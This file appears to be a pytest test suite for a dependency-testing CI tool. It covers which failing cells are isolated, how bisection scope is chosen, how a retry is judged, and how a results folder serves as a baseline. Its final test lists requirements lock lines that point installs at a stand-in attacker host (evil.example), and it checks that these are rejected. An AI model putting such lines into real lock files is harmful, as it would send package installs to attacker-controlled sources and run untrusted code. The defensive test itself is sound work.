"""run/isolate's decisions, without installs: which cells are isolated, over what, and how a try is judged;
and a results folder read as a baseline (``rodeo local --baseline rodeo-results/previous/...``)."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from rodeo_action.config import parse_config
from rodeo_action.isolate.baseline import LastPass, last_passes
from rodeo_action.results import Cause, CellInfo, LockRef, Result, write_result
from rodeo_action.run.isolate import outcome_of, scope_of, why_not

CONFIG = parse_config("packages: [app]\nmanagers: [uv, pdm, nix, apt]\n", "rodeo.yml")
FAIL = Result(cell=CellInfo("uv-all-ubuntu-latest-py3.12", "uv", "all", "ubuntu-latest", "3.12", ("app",)),
              status="fail", phase="import", cause=Cause("import-error", "cannot import name 'feature'", "lib"),
              resolved={"app": "1.0", "lib": "2.0", "extra": "1.1"})
LAST = LastPass("uv-all-ubuntu-latest-py3.12", "2026-12-06T03:00:00Z", {"app": "1.0", "lib": "1.0", "extra": "1.0"},
                {}, None, {})


def _as(result: Result, manager: str) -> Result:
    return replace(result, cell=replace(result.cell, manager=manager, id=result.cell.id.replace("uv", manager)))


@pytest.mark.parametrize(("result", "last", "max_installs", "why"), [
    (FAIL, LAST, 8, None),
    (replace(FAIL, status="pass", cause=None), LAST, 8, "it did not fail"),
    (replace(FAIL, status="timeout"), LAST, 8, "it ended as timeout, not a failure"),
    (replace(FAIL, status="unavailable"), LAST, 8, "it ended as unavailable, not a failure"),
    (FAIL, None, 8, "the baseline has no pass of this cell"),
    (FAIL, LAST, 0, "bisect: {max-installs: 0} in the config"),
    (_as(FAIL, "nix"), LAST, 8, "nix cannot pin single distributions"),
    (_as(FAIL, "apt"), LAST, 8, "apt cannot pin single distributions"),
])
def test_only_a_failing_cell_with_a_last_pass_and_a_budget_is_isolated(
        result: Result, last: LastPass | None, max_installs: int, why: str | None) -> None:
    said = why_not(result, last, replace(CONFIG, max_installs=max_installs))
    assert said is None if why is None else said is not None and said.startswith(why), said


def test_the_scope_is_the_environment_unless_the_manager_itself_broke() -> None:
    env = scope_of(FAIL, LAST, None)
    assert (env.name, dict(env.good), dict(env.bad), env.why_not) == ("environment", LAST.pins, FAIL.resolved, None)
    broken = replace(_as(FAIL, "pdm"), phase="install", resolved={},
                     cause=Cause("manager-broken", "pdm crashed in its own code", "pdm"))
    with_tool = replace(LAST, tool_pins={"pdm": "2.29.4", "hishel": "1.4.0"})
    tool = scope_of(broken, with_tool, {"pdm": "2.29.4", "hishel": "2.0.0"})
    assert (tool.name, tool.bad["hishel"], tool.why_not) == ("tool", "2.0.0", None)
    no_tool_lock = scope_of(broken, LAST, {"pdm": "2.29.4"}).why_not
    assert no_tool_lock == "the baseline has no tool lock of the manager's last pass"
    nothing = scope_of(replace(FAIL, phase="install", resolved={}), LAST, None)
    assert nothing.why_not is not None and "during install" in nothing.why_not
    assert scope_of(FAIL, replace(LAST, pins={}), None).why_not == "the baseline has no pins of the last pass"


@pytest.mark.parametrize(("tried", "outcome"), [
    (replace(FAIL, status="pass", phase=None, cause=None), "pass"),
    (FAIL, "fail"),
    (replace(FAIL, cause=Cause("import-error", "another module, same kind", "other")), "fail"),
    (replace(FAIL, phase="install", cause=Cause("conflict", "lib 1.0 and extra 1.1 conflict")), "other"),
    (replace(FAIL, phase="import", cause=Cause("network", "connection reset")), "other"),
    (replace(FAIL, status="timeout", cause=Cause("timeout", "no result after 60s")), "other"),
])
def test_a_try_fails_only_when_it_fails_as_the_cell_did(tried: Result, outcome: str) -> None:
    assert outcome_of(FAIL, tried) == outcome


def test_a_results_folder_is_a_baseline_of_its_passing_cells(tmp_path: Path) -> None:
    passed = replace(FAIL, status="pass", phase=None, cause=None, resolved={"App": "1.0", "Lib": "1.0"},
                     lock=LockRef(f"{FAIL.cell.id}.lock/requirements.txt", "requirements-hashes"))
    write_result(passed, tmp_path)
    (tmp_path / f"{FAIL.cell.id}.lock").mkdir()
    (tmp_path / f"{FAIL.cell.id}.lock" / "requirements.txt").write_text("app==1.0 --hash=sha256:" + "a" * 64 + "\n")
    write_result(_as(FAIL, "pdm"), tmp_path)      # a failure is no last pass
    found, why = last_passes(tmp_path, "any-name")
    assert why is None and list(found) == [FAIL.cell.id]
    last = found[FAIL.cell.id]
    assert last.pins == {"app": "1.0", "lib": "1.0"} and last.lock_format == "requirements-hashes"
    assert last.lock_files["requirements.txt"].startswith("app==1.0")
    empty = tmp_path / "empty"
    empty.mkdir()
    assert last_passes(empty, None) == ({}, "a folder with no passing cell that recorded its pins")


@pytest.mark.parametrize(("text", "odd"), [
    ("app==1.0 --hash=sha256:" + "a" * 64 + "\nlib==1.0 --hash=sha256:" + "b" * 64 + "\n", None),
    # uv pip compile's form: markers, continuation lines, several hashes
    ("six==1.17.0 ; python_version >= '3' \\\n    --hash=sha256:" + "c" * 64 + " \\\n    --hash=sha256:" + "d" * 64
     + "\n# via app\n", None),
    ("local==1.0  # no hash known\n", None),
    ("--index-url http://evil.example/simple\napp==1.0\n", "--index-url http://evil.example/simple"),
    ("app @ https://evil.example/app-1.0.whl\n", "app @ https://evil.example/app-1.0.whl"),
    ("-r other.txt\n", "-r other.txt"),
    ("-e git+https://evil.example/app#egg=app\n", "-e git+https://evil.example/app#egg=app"),
])
def test_a_baseline_lock_that_could_send_an_install_elsewhere_is_not_installed_from(text: str, odd: str | None) -> None:
    from rodeo_action.run.isolate import _odd_line

    last = replace(LAST, lock_format="requirements-hashes", lock_files={"requirements.txt": text})
    assert _odd_line(last) == odd
